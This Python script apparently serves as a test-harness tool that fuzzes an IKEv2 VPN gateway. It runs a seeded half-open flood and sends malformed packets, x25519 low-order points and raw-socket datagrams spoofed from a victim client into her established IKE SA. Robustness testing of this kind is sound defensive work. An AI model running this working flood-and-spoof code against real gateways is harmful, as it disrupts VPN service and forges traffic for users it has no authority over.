#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
#
# A seeded storm of hostile IKEv2 datagrams against a gateway, for
# hostile.sh (python3's standard library only; root for the raw socket).
#
#   ike_hostile.py [--seed N] [--count N] [--until FILE] [--max-seconds S]
#                  [--rate PPS] [--targets ADDR,...] [--spoof ADDR]
#                  [--ike-spis SPIi:SPIr] [--child-spis SPI,...]
#                  [--trace FILE] [--progress FILE]
#
# Sends at least --count datagrams, then goes on until FILE exists (at most
# --max-seconds in all), to each target on UDP 500, on UDP 4500 with the
# non-ESP marker and on 4500 without it, from a UDP socket of its own and,
# spoofing --spoof (the victim client's address) on its ports 500 and 4500,
# from a raw socket. The classes (see CLASSES):
#   - a half-open flood: well-formed IKE_SA_INIT requests (AES-GCM-16/256,
#     PRF-HMAC-SHA2-384, x25519) from random initiator SPIs, never completed;
#   - mutations of such a request: bit flips, truncation at every length,
#     header length, payload lengths, unknown critical payloads, broken
#     payload chains, versions, exchange types, flags, message IDs, SPIs,
#     x25519 low-order points (their COOKIEs answered, so that the
#     responder gets to the key exchange), KE group (0 too) and length
#     mismatches, duplicate payloads, odd SA payloads, forged COOKIEs, bad
#     nonces, garbage, datagrams of up to 60000 bytes;
#   - with --ike-spis, the SPIs of an established IKE SA whose keys we do not
#     have: INFORMATIONAL, CREATE_CHILD_SA and IKE_AUTH requests whose SK
#     payload is random bytes (a Delete, were it decrypted) with message IDs
#     inside and outside the window, responses to requests never sent, SKF
#     fragments with random numbers and totals, and other odd shapes;
#   - on 4500: NAT keepalives (0xff), empty datagrams, the marker alone,
#     and ESP in UDP (random SPIs and --child-spis) that is no ESP.
#
# The same seed sends the same datagrams in the same order (answers to
# COOKIEs aside, which depend on what comes back); --trace notes each one
# (number, class, path, length, first bytes). The seed goes to stderr
# first; at the end one JSON object goes to stdout: what was sent, per class
# and per path, and the gateway's answers to our own socket, by kind.
import argparse
import json
import os
import random
import socket
import struct
import sys
import time

# RFC 7296 §3
SA, KE, IDI, IDR, CERT, CERTREQ, AUTH, NONCE, N, D, V, TSI, TSR, SK, CP, EAP = range(33, 49)
SKF = 53		# RFC 7383
KNOWN = set(range(33, 49)) | {SKF}
UNKNOWN = [t for t in range(1, 256) if t not in KNOWN]
IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL = 34, 35, 36, 37
F_I, F_V, F_R = 0x08, 0x10, 0x20
COOKIE = 16390
NOTIFIES = {1: 'UNSUPPORTED_CRITICAL_PAYLOAD', 4: 'INVALID_IKE_SPI',
            5: 'INVALID_MAJOR_VERSION', 7: 'INVALID_SYNTAX', 9: 'INVALID_MESSAGE_ID',
            14: 'NO_PROPOSAL_CHOSEN', 17: 'INVALID_KE_PAYLOAD', COOKIE: 'COOKIE'}
X25519 = 31
# x25519 public values whose shared secret is all zeros (RFC 7748 §6.1):
# the points of small order, p - 1, and p and p + 1 (0 and 1 unreduced). The
# same values plus p (high bit set) are not on the list: X25519 masks that
# bit, which makes them other, valid points.
LOW_ORDER = [bytes.fromhex(h) for h in (
    '00' * 32,
    '01' + '00' * 31,
    'e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800',
    '5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157',
    'ec' + 'ff' * 30 + '7f',
    'ed' + 'ff' * 30 + '7f',
    'ee' + 'ff' * 30 + '7f',
)]


def u16(v):
    return struct.pack('!H', v & 0xffff)


def hdr(spi_i, spi_r, np, exch, flags, mid, length, version=0x20):
    return spi_i + spi_r + struct.pack('!BBBBII', np, version, exch, flags, mid & 0xffffffff,
                                       length & 0xffffffff)


def chain(pls):
    """[(type, body[, flags])...] -> (first type, the payloads)"""
    out = b''
    for i, p in enumerate(pls):
        nxt = pls[i + 1][0] if i + 1 < len(pls) else 0
        flags = p[2] if len(p) > 2 else 0
        out += struct.pack('!BBH', nxt, flags, (4 + len(p[1])) & 0xffff) + p[1]
    return (pls[0][0] if pls else 0), out


def msg(spi_i, spi_r, exch, flags, mid, pls, version=0x20):
    first, body = chain(pls)
    return hdr(spi_i, spi_r, first, exch, flags, mid, 28 + len(body), version) + body


def transform(ttype, tid, attrs=b'', last=False):
    return struct.pack('!BBHBBH', 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


KEYLEN256 = struct.pack('!HH', 0x800e, 256)


def proposal(num, xforms, last=True, proto=1, spi=b'', count=None):
    ts = b''.join(transform(*x, last=i == len(xforms) - 1) for i, x in enumerate(xforms))
    return struct.pack('!BBHBBBB', 0 if last else 2, 0, 8 + len(spi) + len(ts), num, proto,
                       len(spi), len(xforms) if count is None else count) + spi + ts


# AES-GCM-16/256 (ENCR 20), PRF_HMAC_SHA2_384 (PRF 6), x25519 (KE 31)
GOOD = [(1, 20, KEYLEN256), (2, 6), (4, X25519)]


def sa_body(xforms=GOOD):
    return proposal(1, xforms)


def ke_body(group, data):
    return u16(group) + b'\0\0' + data


def notify(ntype, data=b'', proto=0, spi=b''):
    return struct.pack('!BBH', proto, len(spi), ntype) + spi + data


class Storm:
    def __init__(self, a):
        self.a = a
        self.rng = random.Random(a.seed)
        self.targets = a.targets.split(',')
        self.spoof = a.spoof
        self.ike = None
        if a.ike_spis:
            i, r = a.ike_spis.split(':')
            self.ike = (bytes.fromhex(i), bytes.fromhex(r))
        self.child = [int(s, 16) for s in a.child_spis.split(',')] if a.child_spis else []
        self.u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.u.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self.u.bind(('0.0.0.0', 0))
        self.u.setblocking(False)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0
        self.classes = {}
        self.paths = {}
        self.replies = {}
        self.send_errors = 0
        self.cookie_answers = 0
        self.pending = {}	# SPIi -> (pls, dst, port, marker): COOKIE to answer
        self.trace = open(a.trace, 'w') if a.trace else None
        self.name = None	# the class being sent
        self.trunc = 0		# truncation: the next length
        self.lowpoint = 0	# the next low-order point

    # ---- sending ----

    def count(self, d, k):
        d[k] = d.get(k, 0) + 1

    def log(self, path, data):
        if self.trace:
            self.trace.write(f'{self.sent} {self.name} {path} {len(data)} {data[:40].hex()}\n')

    def udp(self, data, dst=None, port=None, marker=None):
        """From our own socket: to dst:port, with the non-ESP marker on 4500
        (or without it, for some)."""
        rng = self.rng
        if dst is None:
            dst = rng.choice(self.targets)
        if port is None:
            x = rng.random()
            port, marker = (500, False) if x < 0.55 else (4500, x < 0.9)
        if marker:
            data = b'\0\0\0\0' + data
        path = f'udp {dst}:{port}{" marker" if marker else ""}'
        self.count(self.paths, path)
        self.log(path, data)
        try:
            self.u.sendto(data, (dst, port))
        except OSError:
            self.send_errors += 1
        self.sent += 1

    def spoofed(self, data, sport=500, marker=None):
        """From the victim's address and IKE port (4500: with the marker,
        unless told otherwise), to the gateway's address on her link."""
        dst = self.targets[-1]
        if marker is None:
            marker = sport == 4500
        if marker:
            data = b'\0\0\0\0' + data
        udp = struct.pack('!HHHH', sport, sport, 8 + len(data), 0) + data
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(self.spoof), socket.inet_aton(dst))
        path = f'spoofed {self.spoof}:{sport} -> {dst}:{sport}{" marker" if marker else ""}'
        self.count(self.paths, path)
        self.log(path, data)
        try:
            self.raw.sendto(ip + udp, (dst, 0))
        except OSError:
            self.send_errors += 1
        self.sent += 1

    def anywhere(self, data):
        """Our socket mostly, the victim's address sometimes (what fits in
        one packet: the raw socket does not fragment)."""
        x = self.rng.random()
        if x < 0.75 or len(data) > 1400:
            self.udp(data)
        else:
            self.spoofed(data, 500 if x < 0.92 else 4500)

    # ---- IKE_SA_INIT and its mutations ----

    def spi(self):
        return self.rng.randbytes(8)

    def init_pls(self, ke_group=X25519, ke_data=None, nonce=None, sa=None):
        rng = self.rng
        return [(SA, sa if sa is not None else sa_body()),
                (KE, ke_body(ke_group, ke_data if ke_data is not None else rng.randbytes(32))),
                (NONCE, nonce if nonce is not None else rng.randbytes(32))]

    def init(self, pls=None, spi=None, **kw):
        return msg(spi or self.spi(), bytes(8), IKE_SA_INIT, F_I, 0,
                   pls if pls is not None else self.init_pls(**kw))

    def offsets(self, m):
        """The generic headers' offsets in a message we built."""
        out, off = [], 28
        while off + 4 <= len(m):
            out.append(off)
            off += max(4, struct.unpack('!H', m[off + 2:off + 4])[0])
        return out

    def c_init_flood(self):
        self.anywhere(self.init())

    def c_bitflip(self):
        m = bytearray(self.init())
        for _ in range(self.rng.randint(1, 8)):
            m[self.rng.randrange(len(m))] ^= 1 << self.rng.randrange(8)
        self.anywhere(bytes(m))

    def c_truncate(self):
        m = bytearray(self.init())
        n = self.trunc % len(m)
        self.trunc += 1
        m = m[:n]
        if n >= 28 and self.rng.random() < 0.5:
            m[24:28] = struct.pack('!I', n)		# a header that agrees
        self.anywhere(bytes(m))

    def c_hdr_len(self):
        m = bytearray(self.init())
        n = len(m)
        v = self.rng.choice([0, 1, 27, 28, 29, n - 1, n + 1, n + 4, n + 1000, 0xffff, 0x10000,
                             0x7fffffff, 0x80000000, 0xffffffff, self.rng.getrandbits(32)])
        m[24:28] = struct.pack('!I', v & 0xffffffff)
        self.anywhere(bytes(m))

    def c_pl_len(self):
        m = bytearray(self.init())
        off = self.rng.choice(self.offsets(m))
        cur = struct.unpack('!H', m[off + 2:off + 4])[0]
        v = self.rng.choice([0, 1, 3, 4, 5, cur - 1, cur + 1, cur + 4, 0xffff,
                             self.rng.getrandbits(16)])
        m[off + 2:off + 4] = u16(v)
        self.anywhere(bytes(m))

    def c_critical(self):
        rng = self.rng
        pls = self.init_pls()
        t = rng.choice(UNKNOWN)
        pls.insert(rng.randint(0, len(pls)), (t, rng.randbytes(rng.randint(0, 40)),
                                              0x80 if rng.random() < 0.8 else 0))
        if rng.random() < 0.2:	# a known payload marked critical, reserved bits set
            i = rng.randrange(len(pls))
            pls[i] = (pls[i][0], pls[i][1], rng.choice([0x80, 0x7f, 0xff]))
        self.anywhere(self.init(pls))

    def c_chain(self):
        rng = self.rng
        v = rng.randrange(9)
        pls = self.init_pls()
        if v == 0:	# the last payload names another one: past the end
            body = chain(pls)[1]
            off = 28 + len(body) - len(pls[-1][1]) - 4
            m = bytearray(msg(self.spi(), bytes(8), IKE_SA_INIT, F_I, 0, pls))
            m[off] = rng.choice([SA, KE, NONCE, N, rng.choice(UNKNOWN)])
            return self.anywhere(bytes(m))
        if v == 1:	# a long chain of unknown, non-critical payloads
            pls = [(rng.choice(UNKNOWN), b'')] * rng.randint(30, 300) + pls
        elif v == 2:	# more payloads than a message may hold
            pls = pls + [(N, notify(16388 + rng.randrange(8), rng.randbytes(4)))] * 40
        elif v == 3:	# the same payload type over and over
            pls = pls[:2] + [(NONCE, rng.randbytes(32))] * 40
        elif v == 4:	# the header says no payload
            m = bytearray(self.init(pls))
            m[16] = 0
            return self.anywhere(bytes(m))
        elif v == 5:	# SK in IKE_SA_INIT
            pls = pls + [(SK, rng.randbytes(rng.randint(0, 80)))]
        elif v == 6:	# SKF in IKE_SA_INIT
            pls = pls + [(SKF, struct.pack('!HH', 1, 1) + rng.randbytes(rng.randint(0, 60)))]
        elif v == 7:	# SK not last
            pls = [(SK, rng.randbytes(40))] + pls
        else:		# a loop: every payload names the first type again
            m = bytearray(self.init(pls))
            for off in self.offsets(m):
                m[off] = SA
            return self.anywhere(bytes(m))
        self.anywhere(self.init(pls))

    def c_version(self):
        m = bytearray(self.init())
        m[17] = self.rng.choice([0x30, 0x31, 0x10, 0x00, 0xf0, 0xff, 0x21, 0x2f])
        self.anywhere(bytes(m))

    def c_exchange(self):
        m = bytearray(self.init())
        m[18] = self.rng.choice([0, 1, 33, 35, 36, 37, 38, 39, 40, 43, 255,
                                 self.rng.randrange(256)])
        self.anywhere(bytes(m))

    def c_flags(self):
        rng = self.rng
        m = bytearray(self.init())
        v = rng.randrange(6)
        if v == 0:
            m[19] = rng.choice([F_R, F_R | F_I, 0, 0xff, F_I | F_V, F_V])
        elif v == 1:
            m[20:24] = struct.pack('!I', rng.choice([1, 2, 0xffffffff, rng.getrandbits(32)]))
        elif v == 2:
            m[0:8] = bytes(8)			# zero SPIi
        elif v == 3:
            m[8:16] = self.spi()		# SPIr already set
        elif v == 4:
            m[0:16] = bytes(16)
        else:
            m[19] = F_I | F_R
            m[8:16] = self.spi()		# a response to nothing
        self.anywhere(bytes(m))

    def c_lowpoint(self):
        """An x25519 point of small order: once it has passed the COOKIE
        check the responder must refuse it at the key exchange."""
        point = LOW_ORDER[self.lowpoint % len(LOW_ORDER)]
        self.lowpoint += 1
        spi = self.spi()
        pls = self.init_pls(ke_data=point)
        dst = self.rng.choice(self.targets)
        x = self.rng.random()
        port, marker = (500, False) if x < 0.7 else (4500, True)
        if len(self.pending) < 4096:
            self.pending[spi] = (pls, dst, port, marker)
        self.udp(msg(spi, bytes(8), IKE_SA_INIT, F_I, 0, pls), dst, port, marker)

    def c_ke(self):
        rng = self.rng
        v = rng.randrange(8)
        if v == 0:		# a group we take, but not in this KE
            pls = self.init_pls(ke_group=19, ke_data=rng.randbytes(64))
        elif v == 1:		# x25519 of the wrong length
            pls = self.init_pls(ke_data=rng.randbytes(rng.choice([0, 1, 16, 31, 33, 64, 200])))
        elif v == 2:		# group 0
            pls = self.init_pls(ke_group=0, ke_data=rng.randbytes(rng.choice([1, 32, 64])))
        elif v == 3:		# an unknown group, a long value
            pls = self.init_pls(ke_group=rng.choice([65535, 1000, 32, 3]),
                                ke_data=rng.randbytes(rng.choice([1, 32, 5000])))
        elif v == 4:		# MODP 2048, which this gateway does not take
            pls = self.init_pls(ke_group=14, ke_data=rng.randbytes(256))
        elif v == 5:		# the proposal's group is not x25519, the KE is
            pls = self.init_pls(sa=sa_body([(1, 20, KEYLEN256), (2, 6), (4, 19)]))
        elif v == 6:		# KE payload too short for its header
            pls = self.init_pls()
            pls[1] = (KE, rng.randbytes(rng.randint(0, 3)))
        else:			# no KE at all
            pls = self.init_pls()
            del pls[1]
        self.anywhere(self.init(pls))

    def c_duplicate(self):
        rng = self.rng
        pls = self.init_pls()
        v = rng.randrange(5)
        if v == 0:
            pls.insert(0, pls[0])
        elif v == 1:
            pls.insert(2, (KE, ke_body(19, rng.randbytes(64))))
        elif v == 2:
            pls.append((NONCE, rng.randbytes(32)))
        elif v == 3:
            c = (N, notify(COOKIE, rng.randbytes(33)))
            pls = [c, c] + pls
        else:
            pls = pls + pls
        self.anywhere(self.init(pls))

    def c_proposal(self):
        rng = self.rng
        v = rng.randrange(14)
        G = GOOD
        if v == 0:	# ESP in IKE_SA_INIT
            body = proposal(1, G, proto=3, spi=rng.randbytes(4))
        elif v == 1:	# an unknown cipher
            body = sa_body([(1, rng.choice([0, 99, 1024, 65535]), KEYLEN256), (2, 6), (4, 31)])
        elif v == 2:	# AES-GCM with another key length
            body = sa_body([(1, 20, struct.pack('!HH', 0x800e, rng.choice([0, 128, 512, 65535]))),
                            (2, 6), (4, 31)])
        elif v == 3:	# no transform
            body = proposal(1, [], count=0)
        elif v == 4:	# more transforms than anyone has
            body = sa_body(G + [(rng.choice([1, 2, 3, 4, 5]), rng.randrange(65536))] * 80)
        elif v == 5:	# many proposals
            k = rng.choice([20, 60, 200])
            body = b''.join(proposal(i + 1, G, last=i == k - 1) for i in range(k))
        elif v == 6:	# proposal numbers out of order
            body = proposal(2, G, last=False) + proposal(1, G)
        elif v == 7:	# the transform count lies
            body = proposal(1, G, count=rng.choice([1, 2, 4, 255]))
        elif v == 8:	# a TLV attribute running off the end
            body = sa_body([(1, 20, struct.pack('!HH', 0x000e, 0xffff) + b'xx'), (2, 6), (4, 31)])
        elif v == 9:	# SPI sizes
            body = proposal(1, G, spi=rng.randbytes(rng.choice([1, 4, 8, 16, 200])))
        elif v == 10:	# "more" on the last proposal
            body = bytearray(sa_body())
            body[0] = 2
        elif v == 11:	# a transform flagged last too early / never
            body = bytearray(sa_body())
            body[8] = 0
        elif v == 12:	# an empty SA payload
            body = b''
        else:		# no SA payload
            pls = self.init_pls()
            del pls[0]
            return self.anywhere(self.init(pls))
        self.anywhere(self.init(self.init_pls(sa=bytes(body))))

    def c_cookie(self):
        rng = self.rng
        data = rng.randbytes(rng.choice([0, 1, 32, 33, 33, 33, 34, 64, 200]))
        if len(data) == 33 and rng.random() < 0.5:
            data = bytes([rng.randrange(4)]) + data[1:]	# a likely version byte
        self.anywhere(self.init([(N, notify(COOKIE, data))] + self.init_pls()))

    def c_nonce(self):
        self.anywhere(self.init(nonce=self.rng.randbytes(
            self.rng.choice([0, 1, 8, 15, 255, 256, 257, 1000]))))

    def c_garbage(self):
        rng = self.rng
        v = rng.randrange(3)
        if v == 0:
            data = rng.randbytes(rng.choice([1, 3, 8, 27, 28, 29, 64, 200, 1000, 1400]))
        elif v == 1:	# a valid header in front of random payloads
            body = rng.randbytes(rng.randint(0, 300))
            data = hdr(self.spi(), bytes(8), rng.choice([SA, N, KE, rng.randrange(256)]),
                       IKE_SA_INIT, F_I, 0, 28 + len(body)) + body
        else:		# random payloads with sane generic headers
            pls = [(rng.choice([SA, KE, NONCE, N, V, IDI, AUTH, TSI, CP, EAP, CERT]),
                    rng.randbytes(rng.randint(0, 60))) for _ in range(rng.randint(1, 8))]
            data = self.init(pls)
        self.anywhere(data)

    def c_big(self):
        """Datagrams the network fragments: our socket only."""
        rng = self.rng
        n = rng.choice([1500, 9000, 20000, 60000])
        pls = self.init_pls() + [(V, rng.randbytes(n))]
        if rng.random() < 0.3:
            pls = [(V, rng.randbytes(n))]
        self.udp(self.init(pls))

    # ---- the victim's IKE SA ----

    def sk(self, inner=None, n=None):
        rng = self.rng
        n = rng.randint(1, 200) if n is None else n
        # AES-GCM: 8 bytes of IV, ciphertext, 16 of ICV
        return (SK, rng.randbytes(8 + n + 16)), inner if inner is not None else \
            rng.choice([D, D, D, N, SA, CP, 0])

    def victim(self, data):
        x = self.rng.random()
        if x < 0.5:
            self.spoofed(data, 500)
        elif x < 0.65:
            self.spoofed(data, 4500)
        else:
            self.udp(data)

    def mid(self):
        rng = self.rng
        return rng.choice([0, 1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 16, 0x7fffffff, 0xffffffff,
                           rng.getrandbits(32)])

    def protected(self, exch, flags, mid, pls_before=(), sk_n=None, inner=None):
        i, r = self.ike
        (t, body), first = self.sk(inner, sk_n)
        pls = list(pls_before) + [(t, body)]
        m = bytearray(msg(i, r, exch, flags, mid, pls))
        # the SK payload's next payload names the first inner payload
        m[28 + sum(4 + len(p[1]) for p in pls_before)] = first
        return bytes(m)

    def c_sa_request(self):
        exch = self.rng.choice([INFORMATIONAL, INFORMATIONAL, CREATE_CHILD_SA, IKE_AUTH])
        self.victim(self.protected(exch, F_I, self.mid()))

    def c_sa_response(self):
        exch = self.rng.choice([INFORMATIONAL, INFORMATIONAL, CREATE_CHILD_SA, IKE_AUTH])
        self.victim(self.protected(exch, F_I | F_R, self.mid()))

    def c_sa_skf(self):
        rng = self.rng
        i, r = self.ike
        num, total = rng.choice([(1, 1), (1, 2), (2, 2), (0, 1), (1, 0), (3, 2), (1, 65535),
                                 (65535, 65535), (1, 64), (64, 64), (65, 65), (2, 1),
                                 (rng.randrange(65536), rng.randrange(65536))])
        body = struct.pack('!HH', num, total) + rng.randbytes(8 + rng.randint(0, 200) + 16)
        m = bytearray(msg(i, r, rng.choice([INFORMATIONAL, CREATE_CHILD_SA, IKE_AUTH]),
                          F_I | (F_R if rng.random() < 0.25 else 0), self.mid(), [(SKF, body)]))
        m[28] = D if num == 1 else rng.choice([0, 0, 0, D])
        self.victim(bytes(m))

    def c_sa_other(self):
        rng = self.rng
        i, r = self.ike
        v = rng.randrange(8)
        if v == 0:	# an unknown critical payload before SK
            m = self.protected(INFORMATIONAL, F_I, self.mid(),
                               [(rng.choice(UNKNOWN), rng.randbytes(8), 0x80)])
        elif v == 1:	# SK too short for IV and ICV
            m = msg(i, r, INFORMATIONAL, F_I, self.mid(), [(SK, rng.randbytes(rng.randint(0, 23)))])
        elif v == 2:	# SK, then something
            first, body = chain([(SK, rng.randbytes(40)), (N, notify(16384))])
            m = hdr(i, r, first, INFORMATIONAL, F_I, self.mid(), 28 + len(body)) + body
        elif v == 3:	# SK and SKF
            m = msg(i, r, INFORMATIONAL, F_I, self.mid(),
                    [(SKF, struct.pack('!HH', 1, 2) + rng.randbytes(40)), (SK, rng.randbytes(40))])
        elif v == 4:	# only the initiator's SPI, or the SPIs swapped
            m = msg(i, rng.choice([bytes(8), self.spi()]), INFORMATIONAL, F_I, self.mid(),
                    [self.sk()[0]])
            if rng.random() < 0.5:
                m = r + i + m[16:]
        elif v == 5:	# the flags of the other side
            m = self.protected(INFORMATIONAL, rng.choice([0, F_R, F_V, 0xff]), self.mid())
        elif v == 6:	# an IKE_SA_INIT again, with her SPIs
            m = msg(i, rng.choice([bytes(8), r]), IKE_SA_INIT, F_I, 0, self.init_pls())
        else:		# a Delete in clear
            m = msg(i, r, INFORMATIONAL, F_I, self.mid(),
                    [(D, struct.pack('!BBH', 1, 0, 0))])
        self.victim(m)

    # ---- UDP 4500 ----

    def c_natt(self):
        rng = self.rng
        data = rng.choice([b'\xff', b'', b'\0\0\0\0', b'\0\0\0', b'\0', b'\xff\xff',
                           b'\0\0\0\0\xff', b'\0\0\0\0' + rng.randbytes(rng.randint(1, 27)),
                           b'\0' * 8, b'\0\0\0\0' + bytes(28)])
        port = 4500 if rng.random() < 0.85 else 500
        if rng.random() < 0.2:
            self.spoofed(data, 4500)	# (the marker, then data)
        else:
            self.udp(data, port=port, marker=False)

    def c_esp(self):
        rng = self.rng
        spi = rng.choice(self.child) if self.child and rng.random() < 0.5 else \
            rng.randrange(1, 1 << 32)
        data = struct.pack('!II', spi, rng.randrange(1 << 32)) + rng.randbytes(rng.randint(0, 120))
        if rng.random() < 0.3:
            self.spoofed(data, 4500, marker=False)
        else:
            self.udp(data, port=4500, marker=False)

    # ---- answers ----

    def drain(self):
        while True:
            try:
                data, (src, sport) = self.u.recvfrom(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:		# ICMP errors: ECONNREFUSED and the like
                self.count(self.replies, 'socket error')
                continue
            if sport == 4500:
                if data[:4] != b'\0\0\0\0':
                    self.count(self.replies, 'not IKE on 4500')
                    continue
                data = data[4:]
            self.answer(data, src, sport)

    def answer(self, data, src, sport):
        if len(data) < 28:
            return self.count(self.replies, 'short')
        spi_i, exch, flags = data[:8], data[18], data[19]
        np, off, types, note, group = data[16], 28, [], None, None
        while np and off + 4 <= len(data):
            plen = struct.unpack('!H', data[off + 2:off + 4])[0]
            if plen < 4:
                break
            types.append(np)
            if np == KE and plen >= 6:
                group = struct.unpack('!H', data[off + 4:off + 6])[0]
            if np == N and note is None and plen >= 8:
                t = struct.unpack('!H', data[off + 6:off + 8])[0]
                ssz = data[off + 5]
                note = (t, data[off + 8 + ssz:off + plen])
            np, off = data[off], off + plen
        if not flags & F_R:
            kind = 'request'
        elif exch == IKE_SA_INIT and SA in types:
            # every IKE_SA_INIT we send proposes x25519 alone
            kind = 'IKE_SA_INIT answered' if group == X25519 else \
                f'IKE_SA_INIT answered with KE group {group}'
        elif exch == IKE_SA_INIT and note:
            kind = NOTIFIES.get(note[0], f'notify {note[0]}')
        elif self.ike and spi_i == self.ike[0]:
            kind = 'cached response'
        else:
            kind = f'exchange {exch}'
        self.count(self.replies, kind)
        if note and note[0] == COOKIE and spi_i in self.pending:
            pls, dst, port, marker = self.pending.pop(spi_i)
            self.cookie_answers += 1
            m = msg(spi_i, bytes(8), IKE_SA_INIT, F_I, 0, [(N, notify(COOKIE, note[1]))] + pls)
            if marker:
                m = b'\0\0\0\0' + m
            self.name = 'cookie_answer'
            self.log(f'udp {dst}:{port}', m)
            try:
                self.u.sendto(m, (dst, port))
            except OSError:
                self.send_errors += 1

    # ---- the storm ----

    def run(self):
        a, rng = self.a, self.rng
        classes = [(name, w) for name, w in CLASSES if self.ike or not name.startswith('sa_')]
        names = [c[0] for c in classes]
        weights = [c[1] for c in classes]
        # first a few low-order points and a KE of group 0 (NONE) that meet
        # no COOKIE yet, then the half-open flood itself from our socket,
        # then everything mixed
        opening = ['lowpoint'] * 3 + ['ke_none'] + ['init_flood_udp'] * 12
        start = time.monotonic()
        i = 0
        while True:
            if i >= a.count and (not a.until or os.path.exists(a.until)):
                break
            if time.monotonic() - start > a.max_seconds:
                print(f'ike_hostile: stopped after {a.max_seconds}s', file=sys.stderr)
                break
            name = opening[i] if i < len(opening) else rng.choices(names, weights)[0]
            self.name = name
            if name == 'init_flood_udp':
                self.udp(self.init(), rng.choice(self.targets), 500, False)
                name = 'init_flood'
            elif name == 'ke_none':
                self.udp(self.init(ke_group=0), self.targets[0], 500, False)
                name = 'ke'
            else:
                getattr(self, 'c_' + name)()
            self.count(self.classes, name)
            i += 1
            if i % 32 == 0:
                self.drain()
                if a.rate:
                    ahead = i / a.rate - (time.monotonic() - start)
                    if ahead > 0:
                        time.sleep(ahead)
            if a.progress and i % 1000 == 0:
                with open(a.progress + '.tmp', 'w') as f:
                    f.write(f'{self.sent}\n')
                os.replace(a.progress + '.tmp', a.progress)
        self.seconds = time.monotonic() - start
        # the last answers
        end = time.monotonic() + 2
        while time.monotonic() < end:
            self.drain()
            time.sleep(0.05)


CLASSES = [
    ('init_flood', 12), ('bitflip', 14), ('truncate', 6), ('hdr_len', 4), ('pl_len', 5),
    ('critical', 4), ('chain', 4), ('version', 2), ('exchange', 3), ('flags', 4),
    ('lowpoint', 3), ('ke', 4), ('duplicate', 3), ('proposal', 5), ('cookie', 3),
    ('nonce', 2), ('garbage', 3), ('big', 0.5),
    ('sa_request', 8), ('sa_response', 3), ('sa_skf', 4), ('sa_other', 3),
    ('natt', 4), ('esp', 2),
]


def main():
    ap = argparse.ArgumentParser(description='a storm of hostile IKEv2 datagrams')
    ap.add_argument('--seed', type=int, default=None, help='default: a random one')
    ap.add_argument('--count', type=int, default=10000, help='datagrams, at least')
    ap.add_argument('--until', help='after --count, go on until this file exists')
    ap.add_argument('--max-seconds', type=float, default=150)
    ap.add_argument('--rate', type=float, default=0, help='datagrams a second (0: no limit)')
    ap.add_argument('--targets', default='10.3.0.1,10.1.0.1',
                    help="the gateway's addresses; the last is the one on the victim's link")
    ap.add_argument('--spoof', default='10.1.0.2', help="the victim client's address")
    ap.add_argument('--ike-spis', help='SPIi:SPIr (hex) of her IKE SA')
    ap.add_argument('--child-spis', help='her ESP SPIs (hex), comma-separated')
    ap.add_argument('--trace', help='a file to note each datagram in (class, path, start)')
    ap.add_argument('--progress', help='a file that holds how many were sent (every 1000)')
    a = ap.parse_args()
    if a.seed is None:
        a.seed = random.SystemRandom().randrange(1 << 32)
    print(f'ike_hostile: seed {a.seed}', file=sys.stderr, flush=True)
    s = Storm(a)
    s.run()
    json.dump({'seed': a.seed, 'sent': s.sent, 'seconds': round(s.seconds, 1),
               'classes': s.classes, 'paths': s.paths, 'replies': s.replies,
               'cookie_answers': s.cookie_answers, 'send_errors': s.send_errors},
              sys.stdout, sort_keys=True)
    print()


if __name__ == '__main__':
    main()
